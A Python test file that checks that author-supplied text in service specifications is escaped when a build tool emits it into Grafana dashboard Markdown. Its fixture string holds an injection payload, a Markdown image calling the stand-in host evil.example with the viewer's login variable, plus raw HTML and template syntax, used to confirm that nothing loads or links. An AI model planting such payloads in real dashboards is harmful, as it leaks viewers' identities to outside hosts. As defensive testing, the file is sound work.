"""What authors write stays a text where Grafana reads Markdown, and shows as it was written."""

from __future__ import annotations

import html
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from markdown_it import MarkdownIt

from slosmith.build.compile import compile_root, emit_documents
from slosmith.grafana.preview.html_page import markdown
from tests.conftest import write_spec

EVIL = "![x](https://evil.example/?${__user.login}) <img src=y> [[user]] `a` *b* a|c"
SPEC = f"""
service: shop
description: '{EVIL} one'
slos:
  - name: errors
    description: '{EVIL} two'
    objective: 99.9%
    exclude: [{{when: maintenance == 1, reason: '{EVIL} three'}}]
    sli: {{events: {{total: a_total, bad: 'a_total{{code="500"}}'}}}}
alerts: [{{alert: ShopFull, expr: full > 1, severity: ticket, summary: '{EVIL} four'}}]
---
metrics:
  full: {{type: gauge, help: '{EVIL} five'}}
  maintenance: {{type: gauge}}
  a_total: {{type: counter, labels: {{code: ["200", "500"]}}}}
"""
READER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])


def prose(root: Path) -> Iterator[str]:
    """All that Grafana reads as Markdown."""
    model = compile_root(root).model
    assert model is not None
    waiting: list[Any] = [
        json.loads(one.text)["panels"]
        for one in emit_documents(model)
        if one.path.startswith("grafana/dashboards/")
    ]
    while waiting:
        match waiting.pop():
            case list(items):
                waiting += items
            case dict(panel):
                yield panel.get("description", "")
                yield panel.get("options", {}).get("content", "")
                waiting.append(panel.get("panels", []))


def test_no_text_of_an_author_loads_or_leads_to_anything(tmp_path: Path) -> None:
    write_spec(tmp_path, SPEC)
    texts = [*filter(None, prose(tmp_path))]
    for text in texts:
        page = READER.render(text)
        assert "<img" not in page
        assert 'href="https' not in page
        assert not re.search(r"\$\{|\[\[", text)
        if "evil" in text:
            for shown in (page, markdown(text)):
                assert EVIL in html.unescape(re.sub(r"<[^>]*>", "", shown))
    whole = "\n".join(texts)
    for word in ("one", "two", "three", "four", "five"):
        assert f"a\\|c {word}" in whole
